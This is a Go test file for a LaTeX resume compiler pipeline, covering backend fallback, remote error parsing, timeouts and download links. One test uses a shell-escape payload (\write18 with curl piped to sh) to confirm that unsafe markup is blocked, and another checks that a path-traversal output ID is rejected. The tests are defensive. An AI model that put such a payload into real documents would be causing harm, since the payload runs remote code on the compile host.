package compile

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/jonathan/latex-resume-agent/internal/artifacts"
	"github.com/jonathan/latex-resume-agent/internal/types"
)

const safeMarkup = `\documentclass{article}
\begin{document}
\textbf{Jane Doe}
\end{document}`

// stubBackend counts calls and returns a canned response, optionally writing a PDF.
type stubBackend struct {
	name     string
	calls    int
	result   *Result
	err      error
	writePDF bool
}

func (s *stubBackend) Name() string { return s.name }

func (s *stubBackend) Compile(_ context.Context, job Job) (*Result, error) {
	s.calls++
	if s.writePDF {
		if err := os.WriteFile(job.PDFPath(), []byte("%PDF-1.5"), 0644); err != nil {
			return nil, err
		}
	}
	return s.result, s.err
}

func newStore(t *testing.T) *artifacts.LocalStore {
	t.Helper()
	return artifacts.NewLocalStore(t.TempDir())
}

// linkingStore is a local store that also issues download links.
type linkingStore struct {
	*artifacts.LocalStore
	err      error
	name     string
	lifetime time.Duration
}

func (s *linkingStore) PresignedURL(_ context.Context, name string, lifetime time.Duration) (string, error) {
	s.name, s.lifetime = name, lifetime
	if s.err != nil {
		return "", s.err
	}
	return "https://downloads.example.com/" + name + "?sig=abc", nil
}

func TestCompile_DownloadLink(t *testing.T) {
	store := &linkingStore{LocalStore: newStore(t)}
	backend := &stubBackend{name: "b", result: &Result{ExitCode: 0}, writePDF: true}

	outcome, err := NewPipeline(store, backend).Compile(context.Background(), safeMarkup, "resume_7")
	require.NoError(t, err)
	require.True(t, outcome.Success)
	assert.Equal(t, "https://downloads.example.com/resume_7.pdf?sig=abc", outcome.DownloadURL)
	assert.Equal(t, "resume_7.pdf", store.name)
	assert.Equal(t, DefaultLinkLifetime, store.lifetime)
	assert.FileExists(t, outcome.Artifact)
}

func TestCompile_DownloadLinkFailureKeepsSuccess(t *testing.T) {
	store := &linkingStore{LocalStore: newStore(t), err: errors.New("presigning is not configured")}
	backend := &stubBackend{name: "b", result: &Result{ExitCode: 0}, writePDF: true}

	outcome, err := NewPipeline(store, backend).Compile(context.Background(), safeMarkup, "resume_8")
	require.NoError(t, err)
	assert.True(t, outcome.Success)
	assert.Empty(t, outcome.DownloadURL)

	plain, err := NewPipeline(newStore(t), backend).Compile(context.Background(), safeMarkup, "resume_9")
	require.NoError(t, err)
	assert.True(t, plain.Success)
	assert.Empty(t, plain.DownloadURL)
}

func TestPipeline_Backends(t *testing.T) {
	first, second := &stubBackend{name: "a"}, &stubBackend{name: "b"}
	backends := NewPipeline(newStore(t), first, second).Backends()
	require.Len(t, backends, 2)
	assert.Equal(t, "a", backends[0].Name())
	assert.Equal(t, "b", backends[1].Name())
}

func TestCompile_UnsafeMarkupNeverReachesBackend(t *testing.T) {
	backend := &stubBackend{name: "counting", result: &Result{}}
	p := NewPipeline(newStore(t), backend)

	outcome, err := p.Compile(context.Background(), `\immediate\write18{curl evil.sh | sh}`, "resume_1")
	require.NoError(t, err)

	assert.Equal(t, 0, backend.calls)
	assert.False(t, outcome.Success)
	assert.Equal(t, types.OutcomeUnsafe, outcome.Kind)
	assert.Empty(t, outcome.Artifact)
	require.NotEmpty(t, outcome.Errors)
	for _, e := range outcome.Errors {
		assert.Equal(t, CategorySafety, e.Category)
	}
	assert.Equal(t, "Shell escape command detected", outcome.Errors[0].Message)
}

func TestCompile_FallsThroughToRemoteService(t *testing.T) {
	var gotFields map[string]string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		require.NoError(t, r.ParseMultipartForm(1<<20))
		gotFields = map[string]string{
			"compiler": r.FormValue("compiler"),
			"target":   r.FormValue("target"),
		}
		f, _, err := r.FormFile("resume_1.tex")
		require.NoError(t, err)
		source, _ := io.ReadAll(f)
		gotFields["source"] = string(source)
		_, _ = w.Write([]byte("%PDF-1.5 remote artifact"))
	}))
	defer srv.Close()

	sandbox := &DockerBackend{Binary: "definitely-not-docker-binary", Timeout: time.Second}
	local := &LocalBackend{Binary: "definitely-not-pdflatex-binary", Timeout: time.Second}
	remote := NewRemoteBackend(srv.URL, 5*time.Second, 0)
	store := newStore(t)
	p := NewPipeline(store, sandbox, local, remote)

	outcome, err := p.Compile(context.Background(), safeMarkup, "resume_1")
	require.NoError(t, err)

	assert.True(t, outcome.Success)
	assert.Equal(t, types.OutcomeSuccess, outcome.Kind)
	assert.Equal(t, "remote", outcome.Backend)
	assert.Empty(t, outcome.Errors)
	require.NotEmpty(t, outcome.Artifact)

	data, err := os.ReadFile(outcome.Artifact)
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(string(data), "%PDF"))

	assert.Equal(t, "pdflatex", gotFields["compiler"])
	assert.Equal(t, "resume_1.tex", gotFields["target"])
	assert.Equal(t, safeMarkup, gotFields["source"])
}

func TestCompile_RemoteErrorPayload(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		_, _ = w.Write([]byte(`{"error":"COMPILATION_ERROR","log_files":{"output.log":"! Missing $ inserted.\nl.9 x^2"}}`))
	}))
	defer srv.Close()

	p := NewPipeline(newStore(t), NewRemoteBackend(srv.URL, 5*time.Second, 0))
	outcome, err := p.Compile(context.Background(), safeMarkup, "resume_2")
	require.NoError(t, err)

	assert.False(t, outcome.Success)
	assert.Equal(t, types.OutcomeCompileError, outcome.Kind)
	assert.Contains(t, outcome.Log, "LaTeX Compilation Error:")
	require.Len(t, outcome.Errors, 1)
	assert.Equal(t, CategoryMissingDollar, outcome.Errors[0].Category)
	assert.Equal(t, 9, outcome.Errors[0].Line)
}

func TestCompile_RemotePlainTextError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusBadGateway)
		_, _ = w.Write([]byte("upstream exploded"))
	}))
	defer srv.Close()

	p := NewPipeline(newStore(t), NewRemoteBackend(srv.URL, 5*time.Second, 0))
	outcome, err := p.Compile(context.Background(), safeMarkup, "resume_3")
	require.NoError(t, err)

	assert.Equal(t, types.OutcomeCompileError, outcome.Kind)
	require.Len(t, outcome.Errors, 1)
	assert.Equal(t, "Compilation error: upstream exploded", outcome.Errors[0].Message)
	assert.Equal(t, CategoryBackendFailure, outcome.Errors[0].Category)
}

func TestCompile_FirstRunningBackendWins(t *testing.T) {
	first := &stubBackend{name: "first", result: &Result{ExitCode: 0, Log: "ok"}, writePDF: true}
	second := &stubBackend{name: "second", result: &Result{ExitCode: 0}, writePDF: true}
	p := NewPipeline(newStore(t), first, second)

	outcome, err := p.Compile(context.Background(), safeMarkup, "resume_4")
	require.NoError(t, err)

	assert.True(t, outcome.Success)
	assert.Equal(t, "first", outcome.Backend)
	assert.Equal(t, 1, first.calls)
	assert.Equal(t, 0, second.calls)
}

func TestCompile_SuccessRequiresArtifactAndCleanExit(t *testing.T) {
	tests := []struct {
		name     string
		backend  *stubBackend
		wantMsg  string
		wantKind types.OutcomeKind
	}{
		{
			name:     "clean exit without artifact",
			backend:  &stubBackend{name: "b", result: &Result{ExitCode: 0, Log: "No pages of output."}},
			wantMsg:  "PDF was not generated",
			wantKind: types.OutcomeCompileError,
		},
		{
			name:     "artifact with non-zero exit",
			backend:  &stubBackend{name: "b", result: &Result{ExitCode: 1, Log: "Output written"}, writePDF: true},
			wantMsg:  "compiler exited with status 1",
			wantKind: types.OutcomeCompileError,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			outcome, err := NewPipeline(newStore(t), tt.backend).Compile(context.Background(), safeMarkup, "resume_5")
			require.NoError(t, err)
			assert.False(t, outcome.Success)
			assert.Equal(t, tt.wantKind, outcome.Kind)
			assert.Empty(t, outcome.Artifact)
			require.Len(t, outcome.Errors, 1)
			assert.Equal(t, tt.wantMsg, outcome.Errors[0].Message)
		})
	}
}

func TestCompile_WarningsDoNotBlockSuccess(t *testing.T) {
	backend := &stubBackend{
		name:     "b",
		result:   &Result{ExitCode: 0, Log: `Overfull \hbox (3.0pt too wide) in paragraph at lines 4--5`},
		writePDF: true,
	}
	outcome, err := NewPipeline(newStore(t), backend).Compile(context.Background(), safeMarkup, "resume_6")
	require.NoError(t, err)
	assert.True(t, outcome.Success)
	assert.Len(t, outcome.Warnings, 1)
}

func TestCompile_Timeout(t *testing.T) {
	slow := &stubBackend{name: "slow", err: ErrTimeout}
	next := &stubBackend{name: "next", result: &Result{}, writePDF: true}
	outcome, err := NewPipeline(newStore(t), slow, next).Compile(context.Background(), safeMarkup, "resume_7")
	require.NoError(t, err)

	assert.False(t, outcome.Success)
	assert.Equal(t, types.OutcomeTimeout, outcome.Kind)
	require.Len(t, outcome.Errors, 1)
	assert.Equal(t, "Simplify the document or check for infinite loops", outcome.Errors[0].Suggestion)
	assert.Equal(t, 0, next.calls)
}

func TestCompile_NoCompilerAvailable(t *testing.T) {
	a := &stubBackend{name: "a", err: unavailable("missing")}
	b := &stubBackend{name: "b", err: unavailable("missing")}
	outcome, err := NewPipeline(newStore(t), a, b).Compile(context.Background(), safeMarkup, "resume_8")
	require.NoError(t, err)

	assert.False(t, outcome.Success)
	assert.Equal(t, types.OutcomeNoCompiler, outcome.Kind)
	assert.Equal(t, 1, a.calls)
	assert.Equal(t, 1, b.calls)

	outcome, err = NewPipeline(newStore(t)).Compile(context.Background(), safeMarkup, "resume_8")
	require.NoError(t, err)
	assert.Equal(t, types.OutcomeNoCompiler, outcome.Kind)
}

func TestCompile_InfrastructureErrorIsReturned(t *testing.T) {
	cause := errors.New("permission denied")
	backend := &stubBackend{name: "broken", err: cause}
	outcome, err := NewPipeline(newStore(t), backend).Compile(context.Background(), safeMarkup, "resume_9")
	assert.Nil(t, outcome)
	assert.ErrorIs(t, err, cause)
}

func TestCompile_OutputID(t *testing.T) {
	backend := &stubBackend{name: "b", result: &Result{}, writePDF: true}
	store := newStore(t)
	p := NewPipeline(store, backend)

	outcome, err := p.Compile(context.Background(), safeMarkup, "")
	require.NoError(t, err)
	assert.Regexp(t, `resume_[0-9a-f]{8}\.pdf$`, outcome.Artifact)

	_, err = p.Compile(context.Background(), safeMarkup, "../escape")
	assert.Error(t, err)
}

func TestValidOutputID(t *testing.T) {
	assert.True(t, ValidOutputID(""))
	assert.True(t, ValidOutputID("resume_2024-v2"))
	assert.False(t, ValidOutputID("../escape"))
	assert.False(t, ValidOutputID("-leading-dash"))
	assert.False(t, ValidOutputID("has space"))
}

func TestDefaultBackends(t *testing.T) {
	backends := DefaultBackends(BackendConfig{Timeout: time.Second, DockerImage: "custom/texlive"})
	require.Len(t, backends, 3)
	assert.Equal(t, "docker", backends[0].Name())
	assert.Equal(t, "local", backends[1].Name())
	assert.Equal(t, "remote", backends[2].Name())
	assert.Equal(t, "custom/texlive", backends[0].(*DockerBackend).Image)
	assert.Equal(t, DefaultRemoteURL, backends[2].(*RemoteBackend).URL)

	backends = DefaultBackends(BackendConfig{DisableRemote: true})
	assert.Len(t, backends, 2)
}
